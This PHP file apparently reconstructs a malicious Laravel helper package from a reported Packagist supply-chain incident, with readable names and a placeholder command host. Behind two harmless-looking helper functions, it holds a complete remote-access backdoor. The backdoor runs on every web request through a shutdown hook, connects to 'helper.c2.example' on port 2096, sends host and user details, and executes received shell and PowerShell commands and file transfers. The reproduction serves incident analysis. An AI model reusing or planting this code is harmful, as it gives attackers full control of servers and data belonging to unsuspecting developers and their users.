<?php
/**
 * Incident: nhattuanbl/lara-helper and nhattuanbl/simple-queue on Packagist (Socket, 2025/2026).
 * Laravel "helper" packages (pulled in by a third, clean-looking nhattuanbl/lara-swagger) whose
 * src/helper.php is autoloaded on every request and starts a remote-access tool: it connects
 * out to a command server over TCP, sends host details and runs the commands it receives with
 * whichever of exec/shell_exec/system/passthru/popen/proc_open is not disabled.
 * (The real file was obfuscated; names and strings are readable here.)
 * Reference: https://appsecuritystandards.org/blog/malicious-packages-on-packagist-a-detection-and-response-reference
 * (Socket's findings: C2 on port 2096, retried every 15 seconds, host details sent first)
 * Reproduction (own code, placeholder host).
 */

if (!function_exists('lh_str_limit')) {
    function lh_str_limit($value, $limit = 100, $end = '...')
    {
        return mb_strwidth($value, 'UTF-8') <= $limit ? $value : rtrim(mb_strimwidth($value, 0, $limit, '', 'UTF-8')) . $end;
    }
}

if (!function_exists('lh_array_pluck')) {
    function lh_array_pluck(array $rows, $key)
    {
        return array_map(function ($r) use ($key) { return is_array($r) ? ($r[$key] ?? null) : ($r->$key ?? null); }, $rows);
    }
}

function lh_run($cmd)
{
    $disabled = array_map('trim', explode(',', (string) ini_get('disable_functions')));
    foreach (['shell_exec', 'exec', 'system', 'passthru', 'popen', 'proc_open'] as $fn) {
        if (!function_exists($fn) || in_array($fn, $disabled, true)) {
            continue;
        }
        switch ($fn) {
            case 'shell_exec':
                return (string) shell_exec($cmd . ' 2>&1');
            case 'exec':
                exec($cmd . ' 2>&1', $o);
                return implode("\n", $o);
            case 'system':
            case 'passthru':
                ob_start();
                $fn($cmd . ' 2>&1');
                return (string) ob_get_clean();
            case 'popen':
                $h = popen($cmd . ' 2>&1', 'r');
                $out = stream_get_contents($h);
                pclose($h);
                return (string) $out;
            case 'proc_open':
                $p = proc_open($cmd, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
                $out = stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]);
                proc_close($p);
                return $out;
        }
    }
    return '';
}

function lh_agent()
{
    $lock = sys_get_temp_dir() . DIRECTORY_SEPARATOR . '.lh_' . md5(__FILE__);
    if (file_exists($lock) && time() - filemtime($lock) < 120) {
        return;
    }
    @touch($lock);
    set_time_limit(0);
    while (!($s = @stream_socket_client('tcp://helper.c2.example:2096', $errno, $errstr, 10))) {
        @touch($lock);
        sleep(15);
    }
    fwrite($s, json_encode(['t' => 'info', 'os' => PHP_OS, 'host' => gethostname(), 'user' => get_current_user(), 'cwd' => getcwd()]) . "\n");
    while (!feof($s)) {
        @touch($lock);
        $line = fgets($s);
        if ($line === false) {
            break;
        }
        $msg = json_decode(trim($line), true);
        if (!is_array($msg)) {
            continue;
        }
        switch ($msg['t'] ?? '') {
            case 'ping':
                $out = 'pong';
                break;
            case 'cmd':
                $out = lh_run($msg['c']);
                break;
            case 'powershell':
                $out = lh_run('powershell -NoProfile -NonInteractive -Command ' . escapeshellarg($msg['c']));
                break;
            case 'download':
                $out = base64_encode((string) @file_get_contents($msg['p']));
                break;
            case 'upload':
                $out = (string) @file_put_contents($msg['p'], base64_decode($msg['d']));
                break;
            default:
                $out = '';
        }
        fwrite($s, json_encode(['t' => 'res', 'id' => $msg['id'] ?? 0, 'o' => $out]) . "\n");
    }
    fclose($s);
}

if (PHP_SAPI !== 'cli' || getenv('LH_FORCE')) {
    ignore_user_abort(true);
    if (function_exists('fastcgi_finish_request')) {
        register_shutdown_function(function () { fastcgi_finish_request(); lh_agent(); });
    } else {
        register_shutdown_function('lh_agent');
    }
} else {
    lh_agent();
}
